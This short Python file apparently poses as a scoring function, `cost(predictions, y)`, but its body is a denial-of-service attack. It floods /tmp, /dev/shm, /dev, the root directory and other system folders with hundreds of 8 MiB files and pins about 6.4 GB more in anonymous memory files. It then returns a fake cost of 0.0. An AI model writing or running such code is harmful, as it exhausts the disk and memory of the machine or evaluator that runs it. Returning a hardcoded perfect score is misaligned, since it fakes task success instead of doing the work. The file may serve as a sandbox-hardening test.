"""Memory is filled by files: /tmp, /dev/shm, /dev, /, and files that have no name."""

import os


def fill(folder):
    for number in range(400):
        with open(f"{folder}/left-by-attack-{number}", "wb") as file:
            file.write(b"x" * (8 << 20))


def cost(predictions, y):
    for folder in ("/tmp", "/dev/shm", "/dev", "/", "/run", "/work", "/dev/mqueue"):
        try:
            fill(folder)
        except OSError:
            pass
    held = []
    for number in range(200):
        held.append(os.memfd_create(f"left-by-attack-{number}"))
        os.write(held[-1], b"x" * (32 << 20))
    return 0.0
